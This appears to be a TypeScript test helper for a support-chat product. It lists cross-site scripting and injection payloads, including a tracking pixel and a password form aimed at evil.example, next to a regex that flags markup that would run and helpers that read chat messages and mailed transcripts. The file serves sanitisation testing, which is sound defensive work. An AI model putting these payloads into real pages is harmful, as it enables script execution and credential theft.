import type { Actor } from "../actor.ts";
import { answerChat, mailTranscript, sendTranscript, startChat } from "../chat/index.ts";
import { syncConversation } from "../conversations/index.ts";
import { newId } from "../ids.ts";
import { asJob } from "./routing-org.ts";
import type { TestOrg } from "./test-org.ts";

/** Markup that has run in products of this kind. */
export const hostileTexts = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "[go](javascript:alert(1))",
  "[go](java\u0009script:alert(1))",
  "[go](data:text/html;base64,PHNjcmlwdD4=)",
  "![track](https://evil.example/pixel.png?c=secret)",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password></form>',
  "<style>*{background:url(//evil.example/css)}</style>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "{{constructor.constructor('alert(1)')()}} <%= 7*7 %>",
];

/** What would run, were it put into a page as it is. */
export const running =
  /<(?:script|img|svg|math|style|form|input|iframe|object|animate)|<[^>]*\s(?:on\w+|src)\s*=|href="(?!https?:|mailto:|#)/i;

/** A new chat of somebody with the assistant. */
export const beginChat = async (org: TestOrg, actor: Actor = org.customer) =>
  (await startChat(org.as(actor), { idempotencyKey: newId() })).conversationId;

/** Asks, and reads the answer to its end. */
export async function askChat(
  org: TestOrg,
  conversationId: string,
  body: string,
  actor: Actor = org.customer,
) {
  const stream = await answerChat(org.as(actor), { conversationId, clientId: newId(), body });
  let text = "";
  let answer: { outcome: string; mode: string; message: { body: string } | null } | undefined;
  for await (const chunk of stream) {
    if (chunk.type === "text-delta") text += chunk.delta;
    if (chunk.type === "data-answer") answer = chunk.data;
  }
  return { text, ...answer };
}

/** The messages of a chat, as somebody gets them. */
export const readChat = async (org: TestOrg, conversationId: string, actor: Actor) =>
  (await syncConversation(org.as(actor), { conversationId, afterSeq: 0, limit: 200 })).messages;

/** The transcript that the customer is mailed, as HTML. */
export async function transcriptOf(org: TestOrg, conversationId: string) {
  await mailTranscript(org.as(org.customer), { conversationId });
  await sendTranscript(asJob(org), { conversationId });
  return org.ports.mails.at(-1)?.html ?? "";
}
